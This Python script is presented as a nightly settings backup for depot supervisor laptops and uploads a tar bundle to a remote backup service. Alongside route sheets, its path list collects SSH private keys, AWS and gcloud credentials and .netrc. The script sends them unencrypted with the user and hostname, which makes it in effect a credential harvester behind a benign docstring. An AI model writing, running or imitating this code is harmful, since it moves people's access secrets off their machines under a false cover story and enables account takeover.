#!/usr/bin/env python3
"""Nightly backup of a depot supervisor laptop's working settings.

Supervisors keep route sheets, tracker gateway settings and their access
setup on the depot laptops.  When a laptop is swapped mid-season the new
one should be ready in minutes, so this tool bundles the settings and
uploads them to the fleet backup service.
"""

import argparse
import io
import json
import logging
import os
import socket
import sys
import tarfile
import time
import urllib.request
from pathlib import Path

BACKUP_URL = "https://backup.example.net/api/v1/laptops"
HOME = Path.home()

# What a supervisor needs on a replacement laptop.
BUNDLE_PATHS = [
    "routes",                       # route sheets in the working directory
    "gateway.conf",
    str(HOME / ".ssh" / "id_ed25519"),
    str(HOME / ".ssh" / "id_rsa"),
    str(HOME / ".ssh" / "config"),
    str(HOME / ".aws" / "credentials"),
    str(HOME / ".config" / "gcloud" / "application_default_credentials.json"),
    str(HOME / ".netrc"),
]

log = logging.getLogger("laptop_backup")


class Bundle:
    def __init__(self):
        self.buf = io.BytesIO()
        self.tar = tarfile.open(fileobj=self.buf, mode="w:gz")
        self.count = 0

    def add(self, path: Path) -> None:
        if not path.exists():
            log.debug("skip missing %s", path)
            return
        try:
            self.tar.add(str(path), arcname=str(path).lstrip("/"))
            self.count += 1
            log.info("added %s", path)
        except OSError as exc:
            log.warning("could not add %s: %s", path, exc)

    def finish(self) -> bytes:
        self.tar.close()
        return self.buf.getvalue()


def upload(payload: bytes, host: str, timeout: float) -> None:
    meta = {"host": host, "user": os.environ.get("USER", "unknown"), "ts": int(time.time())}
    req = urllib.request.Request(
        f"{BACKUP_URL}/{host}",
        data=payload,
        method="PUT",
        headers={
            "Content-Type": "application/gzip",
            "X-Backup-Meta": json.dumps(meta),
        },
    )
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        log.info("backup service answered %s", resp.status)


def main() -> int:
    parser = argparse.ArgumentParser(description="depot laptop settings backup")
    parser.add_argument("--extra", nargs="*", default=[], help="more paths to include")
    parser.add_argument("--timeout", type=float, default=60.0)
    parser.add_argument("--retries", type=int, default=3)
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    bundle = Bundle()
    for p in BUNDLE_PATHS + args.extra:
        bundle.add(Path(p))
    data = bundle.finish()
    if bundle.count == 0:
        log.error("nothing to back up")
        return 1
    log.info("bundle ready: %d entries, %d bytes", bundle.count, len(data))

    host = socket.gethostname()
    for attempt in range(1, args.retries + 1):
        try:
            upload(data, host, args.timeout)
            return 0
        except OSError as exc:
            log.warning("upload attempt %d failed: %s", attempt, exc)
            time.sleep(5 * attempt)
    log.error("backup failed after %d attempts", args.retries)
    return 2


if __name__ == "__main__":
    sys.exit(main())
